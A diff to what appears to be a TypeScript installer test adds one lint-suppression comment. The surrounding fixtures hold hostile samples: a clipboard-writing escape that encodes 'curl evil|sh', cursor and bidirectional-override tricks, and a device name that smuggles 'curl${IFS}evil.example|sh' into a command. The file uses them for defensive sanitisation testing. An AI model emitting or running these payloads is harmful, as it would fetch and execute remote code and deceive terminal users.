@@ -14,6 +14,7 @@ const OSC52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
 const CURSOR = '\x1b[2A\x1b[2K\r';
 const HOSTILE_STDERR = `E: dpkg was interrupted${OSC52}${CURSOR}all good\u202Eevil\x9b31m\nsee https://evil.example/fix`;
 const HOSTILE_DEVICE = 'blockdevice-2a;curl${IFS}evil.example|sh;#';
+// eslint-disable-next-line no-control-regex -- the control characters are what must not get through
 const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
 
 function hostileStatus(): InstallStatus {
